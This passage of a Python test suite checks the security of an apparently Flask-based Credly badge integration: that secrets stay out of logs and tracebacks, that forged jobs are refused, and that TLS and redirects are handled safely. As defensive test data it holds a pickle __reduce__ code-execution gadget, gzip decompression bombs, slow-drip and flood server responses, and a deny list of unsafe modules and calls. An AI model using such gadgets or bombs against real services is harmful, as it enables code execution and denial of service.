PERSONAL = ("c4nary@mail", "C4naryfirst", "C4narylast")


class Witness(logging.Handler):
    """Keeps every line of every log."""

    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []
        self.setFormatter(logging.Formatter("%(name)s %(message)s"))

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(f"{self.format(record)} {record.__dict__}")


@pytest.fixture
def witness() -> cabc.Iterator[Witness]:
    """With every logger as talkative as it can be."""
    witness = Witness()
    loggers = [logging.getLogger()]
    loggers += [logging.getLogger(name) for name in logging.root.manager.loggerDict]
    before = [(logger, logger.level, logger.propagate) for logger in loggers]
    logging.getLogger().addHandler(witness)

    for logger in loggers:
        logger.setLevel(logging.DEBUG)
        logger.propagate = True

    yield witness
    logging.getLogger().removeHandler(witness)

    for logger, level, propagate in before:
        logger.setLevel(level)
        logger.propagate = propagate


def everything_in(client: redis.Redis) -> bytes:
    """All keys and values, and what is packed inside of them."""
    found: list[bytes] = []

    read: dict[bytes, cabc.Callable[[bytes], t.Any]] = {
        b"string": lambda key: [client.get(key)],
        b"hash": lambda key: client.hgetall(key).items(),
        b"list": lambda key: client.lrange(key, 0, -1),
        b"set": client.smembers,
        b"zset": lambda key: client.zrange(key, 0, -1),
        b"stream": lambda key: [each[1].items() for each in client.xrange(key)],
    }

    for key in client.scan_iter():
        kind = client.type(key)
        found.append(key)

        # It may have ended since it was listed.
        todo = [] if kind == b"none" else list(read[kind](key))

        while todo:
            value = todo.pop()

            if isinstance(value, bytes):
                found.append(value)

                for unpack in (zlib.decompress, unpack_text):
                    with contextlib.suppress(ValueError, zlib.error):
                        found.append(unpack(value))
            elif value is not None:
                todo += list(value)

    return b"\n".join(found)


def unpack_text(value: bytes) -> bytes:
    return zlib.decompress(base64.b64decode(value, validate=True))


def frames_of(error: BaseException) -> str:
    """An error as a tracker of errors shows it, with the variables of our frames."""
    found = []
    seen: list[traceback.TracebackException | None] = [
        traceback.TracebackException.from_exception(error, capture_locals=True)
    ]

    while seen:
        if (each := seen.pop()) is None:
            continue

        context = None if each.__suppress_context__ else each.__context__
        seen += [each.__cause__, context]
        found += [*each.format_exception_only()]
        found += [
            f"{frame.name} {frame.locals}"
            for frame in each.stack
            if frame.filename.startswith(str(PACKAGE))
        ]

    return "\n".join(found)


class Story(t.NamedTuple):
    """A host with a Credly that is served, and a real queue."""

    host: Host
    credly: CredlySimulator
    redis: redis.Redis


@pytest.fixture
def story(make_host: MakeHost, redis_url: str) -> cabc.Iterator[Story]:
    credly = CredlySimulator(client_secret=SECRET)

    with credly.serve() as server, redis.Redis.from_url(redis_url) as client:
        host = make_host(
            past_completions=lambda course, since: [(CANARY, NOW)],
            member=lambda member_id: CANARY,
            CREDLY_REDIS_URL=redis_url,
            CREDLY_QUEUE=f"credly-{uuid.uuid4().hex}",
            CREDLY_API_URL=server.api_url,
            CREDLY_TOKEN_URL=server.token_url,
            CREDLY_ENCRYPTION_KEYS="MDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDAwMDA=",
            # What the host's own log of statements shows is the host's affair.
            SQLALCHEMY_ENGINE_OPTIONS={"hide_parameters": True},
        )
        yield Story(host, credly, client)


NOW = dt.datetime(2026, 1, 1, tzinfo=dt.UTC)


@every_database
def test_secrets_and_members_stay_where_they_belong(
    story: Story, witness: Witness
) -> None:
    """From the first try to connect to the removal, with every log at its loudest."""
    host, credly, client = story
    browser = Browser(host.app)
    html: list[str] = []
    stored = queued = b""

    def keep(answer: t.Any) -> t.Any:
        html.append(f"{answer.headers}\n{answer.text}")
        return answer

    def post(path: str, **fields: str) -> None:
        answer = keep(browser.post(path, page=WINDOW, **fields))

        if answer.location:
            keep(browser.get(answer.location))

    def look() -> None:
        nonlocal stored, queued
        queued += everything_in(client)

        for path in readable(host.app):
            if not path.endswith(".csv"):
                keep(browser.get(path))
                keep(browser.get(path, headers=HX))

        with host.app.app_context():
            stored += digest(host).encode()
            url = host.state.engine.url

            if url.get_backend_name() == "sqlite":
                for file in pathlib.Path(t.cast(str, url.database)).parent.glob(
                    "*.db*"
                ):
                    stored += file.read_bytes()

    def work() -> None:
        with host.app.app_context():
            host.make_due()
            queue = notifier.web_queue(host.state)
            assert queue is not None
            rq.SimpleWorker(
                [queue], connection=client, serializer=queue.serializer
            ).work(burst=True, logging_level="DEBUG")
            host.db.session.remove()

    keep(browser.connect(credly, client_secret=TYPED))
    look()
    template_id = credly.add_template("Python Badge")
    assert keep(browser.connect(credly)).status_code == 303
    post(f"{WINDOW}/mappings", course="course:py-101", template=template_id)
    credly.posts_allowed = 20

    with host.app.app_context():
        credly.fail("issue", times=2, status=422)
        host.complete(member=CANARY)
        look()
        host.drain(2)
        assert host.row().state == "failed"

    look()
    post(f"{WINDOW}/badges/1/retry")
    # An answer that repeats what it was sent
    echo = {"error_description": f"Unknown: {SECRET}", "error": SECRET}
    credly.revoke_tokens()
    credly.fail("token", status=500, body=echo)
    work()
    post(f"{WINDOW}/test")
    post(f"{WINDOW}/templates")
    credly.fail("issue", how="hang")
    work()
    look()

    for status in (429, 401):
        credly.fail("issue", status=status, body={"message": f"No {CANARY.email}."})

        with host.app.app_context():
            host.complete(member=dataclasses.replace(CANARY, id=f"c4nary-{status}"))
            host.db.session.execute(sa.update(Account).values(paused_until=None))
            host.db.session.commit()

        work()
        look()

    # A job that fails leaves its traceback in Redis.
    with host.app.app_context():
        host.complete(member=dataclasses.replace(CANARY, id="c4nary-id-2"))
        host.db.session.execute(sa.text("DELETE FROM credly_installation"))
        host.db.session.commit()

    work()
    look()
    credly.revoke_client()
    credly.revoke_tokens()
    post(f"{WINDOW}/test")
    work()
    post(f"{WINDOW}/remove")
    look()
    keep(browser.get(LIST))

    tokens = list(credly._tokens)
    assert len(tokens) > 1
    log = "\n".join(witness.lines)
    urls = [f"{each.path} {each.query}" for each in credly.received]
    assert len(urls) > 10
    assert "flask_credly" in log and "urllib3" in log and "sqlalchemy" in log
    assert b"flask_credly.jobs.drain" in queued
    assert b"c4nary@mail" in stored

    for hidden in (SECRET, TYPED, *tokens):
        assert hidden not in log
        assert hidden not in "\n".join(html)
        assert hidden.encode() not in stored + queued
        assert hidden not in "\n".join(urls)

    # With echo="debug" SQLAlchemy's own log shows rows. That is the host's affair too.
    log = "\n".join(each for each in witness.lines if " Row (" not in each)

    for name in PERSONAL:
        assert name not in log, [e for e in log.split("\n") if name in e][0][:300]
        assert name.encode() not in queued


@pytest.mark.parametrize("kind", ["token", "templates"])
@pytest.mark.parametrize("trouble", [400, 401, 403, 429, 500, "no JSON", "a mistake"])
def test_a_traceback_with_variables_shows_no_secret(
    make_host: MakeHost,
    credly: CredlySimulator,
    monkeypatch: pytest.MonkeyPatch,
    trouble: t.Any,
    kind: t.Any,
) -> None:
    """Also where the mistake is ours, and nothing was prepared for it."""
    host = make_host()
    credly.client_secret = SECRET
    token: list[str] = []

    def make_trouble() -> None:
        # It repeats what it was sent.
        said = SECRET if kind == "token" else " ".join(credly._tokens)
        # After a 401 it is asked again, with another token.
        said = "" if trouble == 401 and kind == "templates" else said
        body = {"error_description": said, "access_token": "c4nary-token"}

        if trouble == "a mistake":
            monkeypatch.setattr("flask_credly.credly.answers.read_json", fail)
        elif trouble == "no JSON":
            credly.fail(kind, status=200, body=f"<p>{SECRET}", times=None)
        else:
            credly.fail(kind, status=trouble, body=body, times=None)

    def fail(*args: object) -> t.NoReturn:
        raise ZeroDivisionError

    def ask_for_token() -> object:
        return fetch_token(
            host.state.settings.token_url, credly.client_id, SECRET, timeout=1
        )

    def reconnect() -> object:
        return accounts.connect(
            host.state,
            organization_id=credly.organization_id,
            client_id=credly.client_id,
            client_secret=SECRET,
        )

    with host.app.app_context():
        connect(host, credly)
        token += credly._tokens
        make_trouble()
        errors = []

        # With a new token there is nothing to repeat.
        first = (ask_for_token, reconnect) if kind == "token" else ()

        for ask in (
            *first,
            lambda: accounts.check(host.state),
            lambda: accounts.sync_templates(host.state),
        ):
            if kind == "token":
                credly.revoke_tokens()
                host.db.session.execute(
                    sa.update(Account).values(token=None, token_fetch_until=None)
                )
                host.db.session.commit()

            try:
                ask()
            except Exception as e:
                errors.append(frames_of(e))

        assert len(errors) >= (3 if kind == "token" else 2)

        for text in errors:
            for hidden in (SECRET, "c4nary-token", *token, *credly._tokens):
                assert hidden not in text, text


def test_a_sealed_value_that_does_not_open_shows_nothing(
    make_host: MakeHost, credly: CredlySimulator
) -> None:
    """Such as one that was moved from another row."""
    host = make_host()
    credly.client_secret = SECRET

    with host.app.app_context():
        connect(host, credly)
        row = host.db.session.scalars(sa.select(Account)).one()
        token = get_token(host.state, row.generation).value
        moved = {"client_secret": row.token, "token": row.client_secret}
        host.db.session.execute(sa.update(Account).values(moved))
        host.db.session.commit()

        with pytest.raises(SecretUnreadable) as caught:
            accounts.sync_templates(host.state)

        shown = frames_of(caught.value)
        assert SECRET not in shown
        assert str(token) not in shown


def test_nothing_that_is_shown_to_a_developer_holds_a_secret(
    make_host: MakeHost, credly: CredlySimulator, monkeypatch: pytest.MonkeyPatch
) -> None:
    password = "redis://:c4nary-password@127.0.0.1:1/0"
    host = make_host(CREDLY_REDIS_URL=password)
    credly.client_secret = SECRET

    with host.app.app_context():
        connect(host, credly)
        token = fetch_token(
            host.state.settings.token_url, credly.client_id, SECRET, timeout=1
        )
        shared = get_token(
            host.state, host.db.session.scalars(sa.select(Account.generation)).one()
        )
        rows = [
            row
            for mapper in Base.registry.mappers
            for row in host.db.session.scalars(sa.select(mapper.class_))
        ]
        client = Client("https://api.credly.com/v1", credly.organization_id, timeout=1)
        # Some drivers take it there.
        url = host.state.engine.url.update_query_dict(
            {"sslpassword": "c4nary-password"}
        )
        monkeypatch.setattr(host.state.engine, "url", url)
        shown = [host.credly, host.state, host.state.settings, token, shared, client]

        with host.app.test_request_context(
            method="POST", data={"client_secret": SECRET, "organization_id": "x"}
        ):
            form = ConnectForm()
            shown += [form, *form, form.errors, *[str(field) for field in form]]

        text = repr([*shown, *rows])
        assert len(rows) > 3
        assert "Secret('***')" in text

        for hidden in (SECRET, "c4nary-password", *credly._tokens):
            assert hidden not in text

        for each in (token.value, shared.value):
            with pytest.raises(TypeError, match="not to be written down"):
                pickle.dumps(each)


def test_nothing_is_stored_that_runs_when_it_is_read() -> None:
    """Neither by us nor for us: jobs are JSON."""
    wrong = {"pickle", "cPickle", "marshal", "shelve", "dill", "jsonpickle", "yaml"}
    calls = {"eval", "exec", "compile", "__import__"}

    for path in PACKAGE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text())):
            names: list[str] = []

            if isinstance(node, ast.Import):
                names = [alias.name.partition(".")[0] for alias in node.names]
            elif isinstance(node, ast.ImportFrom) and not node.level:
                names = [(node.module or "").partition(".")[0]]
            elif isinstance(node, ast.Call) and isinstance(node.func, ast.Name):
                assert node.func.id not in calls, (path, node.lineno)

            assert not wrong & set(names), (path, names)


class Evil:
    def __init__(self, marker: pathlib.Path) -> None:
        self.marker = marker

    def __reduce__(self) -> t.Any:
        return (pathlib.Path.touch, (self.marker,))


def test_a_forged_job_that_runs_when_it_is_read_is_refused(
    farm: Farm, tmp_path: pathlib.Path
) -> None:
    marker = tmp_path / "marker"
    queue = notifier.web_queue(farm.host.state)
    assert queue is not None
    forged = rq.Queue(queue.name, connection=farm.redis, serializer=pickle)
    forged.enqueue_call(periodic.DRAIN.function, args=(Evil(marker),))
    farm.run("flask", "credly", "worker", "--burst")

    assert not marker.exists()


def test_a_thousand_repeats_are_one_badge(connected: Connected) -> None:
    host, credly, _ = connected

    for _ in range(1000):
        host.complete()

    host.drain(2)
    assert (host.row().state, credly.count("issue")) == ("issued", 1)


def test_the_hosts_environment_changes_no_request(
    tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    """A .netrc has a name and a password for the address that is asked."""
    file = tmp_path / "netrc"
    file.write_text("machine 127.0.0.1 login evil password evil\n")
    file.chmod(0o600)
    monkeypatch.setenv("NETRC", str(file))
    credly = CredlySimulator()
    credly.add_template("Python Badge")

    with credly.serve() as server:
        token = fetch_token(
            server.token_url, credly.client_id, credly.client_secret, timeout=5
        )

        with Client(server.api_url, credly.organization_id, timeout=5) as client:
            assert len(client.templates(token.value, 1).rows) == 1

    assert credly.problems == []


# Whoever answers in Credly's place

ORGANIZATION = "11111111-2222-4333-8444-555555555555"
BADGE_ID = "22222222-2222-4333-8444-555555555555"
TEMPLATE_ID = "33333333-2222-4333-8444-555555555555"
REQUEST = BadgeRequest(TEMPLATE_ID, "earner", "a@example.org", "A", "B", NOW)


class Wire(socketserver.ThreadingTCPServer):
    """A server that answers with any bytes."""

    daemon_threads = True
    allow_reuse_address = True
    request_queue_size = 50
    asked: list[bytes]
    gave_up = False

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}"

    def handle_error(self, *args: object) -> None:
        """The client went away: that is what these tests are about."""


Send = cabc.Callable[[bytes], None]
MakeWire = cabc.Callable[..., Wire]


@pytest.fixture
def wire() -> cabc.Iterator[MakeWire]:
    servers: list[Wire] = []

    def start(
        answer: cabc.Callable[[Send], None], context: ssl.SSLContext | None = None
    ) -> Wire:
        class Handler(socketserver.BaseRequestHandler):
            def handle(self) -> None:
                asked = b""

                while b"\r\n\r\n" not in asked:
                    asked += self.request.recv(65_536) or b"\r\n\r\n"

                head, _, body = asked.partition(b"\r\n\r\n")
                length = re.search(rb"(?i)content-length: (\d+)", head)

                while length and len(body) < int(length[1]):
                    body += self.request.recv(65_536)

                server.asked.append(head + body)
                answer(self.request.sendall)

        server = Wire(("127.0.0.1", 0), Handler)
        server.asked = []

        if context is not None:
            server.socket = context.wrap_socket(server.socket, server_side=True)

        threading.Thread(target=server.serve_forever, args=[0.02], daemon=True).start()
        servers.append(server)
        return server

    yield start

    for server in servers:
        server.shutdown()
        server.server_close()


def ask(kind: str, url: str, timeout: float = 0.5) -> object:
    """Ask one of the things that Credly is asked."""
    if kind == "token":
        return fetch_token(f"{url}/oauth/token", "id", SECRET, timeout=timeout)

    with Client(f"{url}/v1", ORGANIZATION, timeout=timeout) as client:
        if kind == "issue":
            return client.issue("token", REQUEST)

        if kind == "look-up":
            return client.find("token", REQUEST)

        return client.templates("token", 1)


QUESTIONS = ("token", "issue", "look-up", "templates")


def no_answer(question: str) -> type[CredlyError]:
    """Get what it is where no answer can be used. A token is asked for once more."""
    return Unavailable if question == "token" else OutcomeUnknown


OK = b"HTTP/1.1 200 OK\r\n"


DRIPS = {
    "status line": (b"", b"H"),
    "header": (OK + b"X-Slow: ", b"x"),
    "headers": (OK, b"X-Slow: 1\r\n"),
    "interim answers": (b"", b"HTTP/1.1 100 Continue\r\n\r\n"),
    "body": (OK + b"Content-Length: 9999\r\n\r\n", b" "),
    "body without length": (OK + b"\r\n", b" "),
    "chunks": (OK + b"Transfer-Encoding: chunked\r\n\r\n", b"1\r\n \r\n"),
    "size of a chunk": (OK + b"Transfer-Encoding: chunked\r\n\r\n", b"0"),
    "trailers": (OK + b"Transfer-Encoding: chunked\r\n\r\n0\r\n", b"X: 1\r\n"),
    "packed body": (OK + b"Content-Encoding: gzip\r\n\r\n", b"\x1f"),
}


@pytest.mark.parametrize("question", ["token", "issue"])
@pytest.mark.parametrize("where", DRIPS)
def test_an_answer_that_drips_ends_at_its_deadline(
    wire: MakeWire, where: str, question: str
) -> None:
    first, piece = DRIPS[where]
    finished = []

    def answer(send: Send) -> None:
        send(first)

        for _ in range(200):
            send(piece)
            time.sleep(0.05)

        finished.append(True)

    with pytest.raises(no_answer(question)):
        ask(question, wire(answer).url)

    # The server would have gone on for ten seconds.
    assert finished == []


def test_a_late_byte_adds_nothing_to_the_deadline(wire: MakeWire) -> None:
    """Each byte that came used to give the next one a whole timeout anew."""

    def answer(send: Send) -> None:
        send(OK)
        time.sleep(0.8)
        send(b"X-Slow: 1\r\n")
        time.sleep(0.7)
        send(b'Content-Length: 40\r\n\r\n{"access_token": "t", "expires_in": 7200}')

    with pytest.raises(Unavailable):
        ask("token", wire(answer).url, timeout=1)


GIBIBYTE = 1024 * 1024 * 1024


def pour(send: Send, piece: bytes, size: int) -> None:
    for _ in range(size // len(piece)):
        send(piece)


@functools.cache
def packed() -> bytes:
    """50 MB in 50 kB. Many in a row are one body."""
    return gzip.compress(bytes(50_000_000), 9)


FLOODS: dict[str, cabc.Callable[[Send], None]] = {
    "a long body": lambda send: (
        send(OK + b"Content-Length: %d\r\n\r\n" % GIBIBYTE),
        pour(send, b" " * 1_000_000, GIBIBYTE),
    )[-1],
    "a body without end": lambda send: (
        send(OK + b"\r\n"),
        pour(send, b" " * 1_000_000, GIBIBYTE),
    )[-1],
    "chunks without end": lambda send: (
        send(OK + b"Transfer-Encoding: chunked\r\n\r\n"),
        pour(send, b"10000\r\n" + b" " * 0x10000 + b"\r\n", GIBIBYTE),
    )[-1],
    "a bomb": lambda send: (
        send(OK + b"Content-Encoding: gzip\r\n\r\n"),
        pour(send, packed(), 200 * len(packed())),
    )[-1],
    "a bomb in a bomb": lambda send: (
        send(OK + b"Content-Encoding: gzip, gzip\r\n\r\n"),
        pour(send, gzip.compress(packed() * 20), 10**6),
    )[-1],
    "headers without end": lambda send: (
        send(OK),
        pour(send, b"X-Header: 1\r\n" * 10_000, GIBIBYTE),
    )[-1],
    "a header without end": lambda send: (
        send(OK + b"X-Header: "),
        pour(send, b"x" * 1_000_000, GIBIBYTE),
    )[-1],
    "a status line without end": lambda send: pour(send, b"H" * 1_000_000, GIBIBYTE),
    "interim answers without end": lambda send: pour(
        send, b"HTTP/1.1 100 Continue\r\n\r\n" * 1000, GIBIBYTE
    ),
}


@pytest.mark.parametrize("question", ["token", "issue"])
@pytest.mark.parametrize("what", FLOODS)
def test_an_answer_of_any_size_takes_little_memory(
    wire: MakeWire, what: str, question: str
) -> None:
    finished = []
    packed()

    def answer(send: Send) -> None:
        FLOODS[what](send)
        finished.append(True)

    server = wire(answer)
    ask_for_nothing(server)
    tracemalloc.start()

    try:
        with pytest.raises(no_answer(question)):
            ask(question, server.url, timeout=2)

        _, peak = tracemalloc.get_traced_memory()
    finally:
        tracemalloc.stop()

    assert peak < 20_000_000
    # A bomb is short where it is not unpacked.
    assert finished == [] or "bomb" in what


def ask_for_nothing(server: Wire) -> None:
    """Load what a first request loads, so that it is not counted."""
    with contextlib.suppress(CredlyError):
        ask("token", "http://127.0.0.1:1", timeout=1)


@pytest.mark.parametrize("question", QUESTIONS)
@pytest.mark.parametrize("status", [301, 302, 303, 307, 308])
def test_no_redirect_is_followed(wire: MakeWire, status: int, question: str) -> None:
    thief = wire(lambda send: send(OK + b"Content-Length: 2\r\n\r\n{}"))

    def answer(send: Send) -> None:
        head = f"HTTP/1.1 {status} Moved\r\nLocation: {thief.url}/v1\r\n"
        send(head.encode() + b"Content-Length: 0\r\n\r\n")

    server = wire(answer)

    with pytest.raises(no_answer(question)):
        ask(question, server.url, timeout=5)

    assert thief.asked == []
    assert len(server.asked) == 1


def as_json(value: object) -> bytes:
    body = json.dumps(value).encode()
    return OK + b"Connection: close\r\nContent-Length: %d\r\n\r\n" % len(body) + body


def test_no_address_in_an_answer_is_followed(wire: MakeWire) -> None:
    """A list whose next page is elsewhere, or the same again without end."""
    thief = wire(lambda send: send(as_json({})))
    row = {"id": BADGE_ID, "state": "pending", "badge_template": {"id": "other"}}

    def answer(send: Send) -> None:
        next_page = f"{thief.url}/v1/organizations"
        metadata = {
            "next_page_url": next_page,
            "previous_page_url": next_page,
            "total_pages": 10**9,
            "current_page": 1,
        }
        links = {"next": next_page, "self": next_page}
        send(as_json({"data": [row], "metadata": metadata, "links": links}))

    server = wire(answer)

    with pytest.raises(OutcomeUnknown, match="did not end"):
        ask("look-up", server.url, timeout=10)

    assert thief.asked == []
    assert len(server.asked) == 200


# Certificates


class Authority:
    """Signs certificates for a test."""

    def __init__(self, folder: pathlib.Path) -> None:
        self._folder = folder
        self._key = ec.generate_private_key(ec.SECP256R1())
        self.name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Example CA")])
        made = self._build(self.name, self._key, dt.timedelta(days=1))
        made = made.add_extension(x509.BasicConstraints(True, None), critical=True)
        usage = x509.KeyUsage(*[False] * 5, *[True] * 2, *[False] * 2)
        made = made.add_extension(usage, critical=True)
        self.path = folder / "ca.pem"
        self.path.write_bytes(self._sign(made))

    def _build(
        self, name: x509.Name, key: t.Any, lasts: dt.timedelta
    ) -> x509.CertificateBuilder:
        now = dt.datetime.now(dt.UTC)
        signed_by = self._key.public_key()
        return (
            x509.CertificateBuilder(self.name, name, key.public_key())
            .serial_number(x509.random_serial_number())
            .not_valid_before(now - dt.timedelta(days=3))
            .not_valid_after(now + lasts)
            # Python 3.13 asks for these two.
            .add_extension(
                x509.SubjectKeyIdentifier.from_public_key(key.public_key()),
                critical=False,
            )
            .add_extension(
                x509.AuthorityKeyIdentifier.from_issuer_public_key(signed_by),
                critical=False,
            )
        )

    def _sign(self, builder: x509.CertificateBuilder) -> bytes:
        made = builder.sign(self._key, hashes.SHA256())
        return made.public_bytes(serialization.Encoding.PEM)

    def context(self, host: str, lasts: dt.timedelta) -> ssl.SSLContext:
        """Make what a server of a name needs."""
        key = ec.generate_private_key(ec.SECP256R1())
        name = x509.Name([x509.NameAttribute(NameOID.COMMON_NAME, "Example")])
        names: list[x509.GeneralName] = [
            x509.IPAddress(ipaddress.ip_address(host))
            if host[0].isdigit()
            else x509.DNSName(host)
        ]
        made = self._build(name, key, lasts)
        made = made.add_extension(x509.SubjectAlternativeName(names), critical=False)
        path = self._folder / f"{host}.pem"
        path.write_bytes(
            self._sign(made)
            + key.private_bytes(
                serialization.Encoding.PEM,
                serialization.PrivateFormat.PKCS8,
                serialization.NoEncryption(),
            )
        )
        context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
        context.load_cert_chain(path)
        return context


@pytest.mark.parametrize(
    ("host", "days", "known", "good"),
    [
        ("127.0.0.1", 1, True, True),
        ("credly.example", 1, True, False),
        ("127.0.0.1", -1, True, False),
        ("127.0.0.1", 1, False, False),
    ],
    ids=["right", "another host's", "expired", "signed by a stranger"],
)
@pytest.mark.parametrize("question", ["token", "templates"])
def test_nothing_is_sent_to_who_has_no_right_certificate(
    wire: MakeWire,
    tmp_path: pathlib.Path,
    monkeypatch: pytest.MonkeyPatch,
    host: str,
    days: int,
    known: bool,
    good: bool,
    question: str,
) -> None:
    authority = Authority(tmp_path)

    if known:
        monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(authority.path))

    token = {"access_token": "t", "expires_in": 60, "data": [], "metadata": {}}
    server = wire(
        lambda send: send(as_json(token)),
        authority.context(host, dt.timedelta(days=days)),
    )
    url = server.url.replace("http:", "https:")

    if good:
        ask(question, url, timeout=5)
        assert len(server.asked) == 1
    else:
        with pytest.raises(Unavailable, match="certificate"):
            ask(question, url, timeout=5)

        assert server.asked == []


@pytest.mark.parametrize(
    ("version", "good"),
    [(ssl.TLSVersion.TLSv1_2, True), (ssl.TLSVersion.TLSv1_1, False)],
)
def test_nothing_is_sent_over_an_old_tls(
    wire: MakeWire,
    tmp_path: pathlib.Path,
    monkeypatch: pytest.MonkeyPatch,
    version: ssl.TLSVersion,
    good: bool,
) -> None:
    authority = Authority(tmp_path)
    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(authority.path))
    token = {"access_token": "t", "expires_in": 60}
    context = authority.context("127.0.0.1", dt.timedelta(days=1))

    with warnings.catch_warnings():
        warnings.simplefilter("ignore", DeprecationWarning)
        context.minimum_version = ssl.TLSVersion.TLSv1
        context.maximum_version = version

    # OpenSSL speaks the old ones only if asked to.
    context.set_ciphers("DEFAULT@SECLEVEL=0")
    server = wire(lambda send: send(as_json(token)), context)
    url = server.url.replace("http:", "https:")

    if good:
        ask("token", url, timeout=5)
    else:
        with pytest.raises(CredlyError):
            ask("token", url, timeout=5)

    assert len(server.asked) == good


def test_the_trusted_certificates_are_read_once_for_all_connections(
    wire: MakeWire, tmp_path: pathlib.Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    authority = Authority(tmp_path)
    monkeypatch.setenv("REQUESTS_CA_BUNDLE", str(authority.path))
    read = []
    load = ssl.SSLContext.load_verify_locations

    def count(*args: t.Any, **kwargs: t.Any) -> None:
        read.append(args)
        load(*args, **kwargs)

    monkeypatch.setattr(ssl.SSLContext, "load_verify_locations", count)
    content = as_json({"data": [], "metadata": {}})
    context = authority.context("127.0.0.1", dt.timedelta(days=1))
    server = wire(lambda send: send(content), context)

    for _ in range(3):
        ask("templates", server.url.replace("http:", "https:"), timeout=5)

    assert (len(server.asked), len(read)) == (3, 1)
